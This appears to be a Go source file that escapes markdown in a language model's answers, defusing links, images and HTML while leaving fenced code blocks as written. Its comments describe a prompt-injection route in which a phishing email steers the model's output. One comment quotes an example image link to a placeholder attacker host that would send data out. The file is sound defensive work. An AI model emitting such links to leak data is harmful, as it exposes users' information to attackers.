package warroom

import (
	"strings"
)

// modelEscaper disarms what a model's markdown could do beyond formatting:
// "[" starts links and images (![..](https://attacker/?data=..) would make
// the war room fetch a URL of the attacker's choosing), "<" raw HTML and
// autolinks, and "\" could undo the escapes.
var modelEscaper = strings.NewReplacer(`\`, `\\`, "[", `\[`, "<", "&lt;")

// ModelText makes a model's answer safe to show as markdown: headings,
// lists, emphasis, tables and code blocks still render, while links,
// images and HTML show as the text they are. A phishing email can steer
// what the model writes, so its answer is as untrusted as the email.
// Fenced code blocks are left as written: markdown renders nothing inside
// them, and an escape would show there.
func ModelText(s string) string {
	if !strings.Contains(s, "```") && !strings.Contains(s, "~~~") {
		return modelEscaper.Replace(s)
	}
	lines := strings.SplitAfter(s, "\n")
	var open string // the fence of the code block we are in, "" outside
	for i, line := range lines {
		if open != "" {
			if closesFence(line, open) {
				open = ""
			}
			continue
		}
		if open = openingFence(line); open == "" {
			lines[i] = modelEscaper.Replace(line)
		}
	}
	return strings.Join(lines, "")
}

// openingFence is the fence (``` or ~~~, three or more) that line opens as
// CommonMark reads it (at most three spaces of indent; a backtick fence's
// info string holds no backtick), or "".
func openingFence(line string) string {
	body, ok := fenceIndent(line)
	if !ok {
		return ""
	}
	for _, c := range []string{"`", "~"} {
		run := len(body) - len(strings.TrimLeft(body, c))
		if run >= 3 && (c == "~" || !strings.Contains(body[run:], "`")) {
			return body[:run]
		}
	}
	return ""
}

// closesFence reports whether line closes a block opened by fence: the
// same character, at least as many, and nothing after but spaces.
func closesFence(line, fence string) bool {
	body, ok := fenceIndent(line)
	if !ok {
		return false
	}
	run := len(body) - len(strings.TrimLeft(body, fence[:1]))
	return run >= len(fence) && strings.TrimSpace(body[run:]) == ""
}

// fenceIndent strips up to three spaces of indent; more makes the line
// indented code, not a fence.
func fenceIndent(line string) (string, bool) {
	body := strings.TrimLeft(line, " ")
	return body, len(line)-len(body) <= 3
}
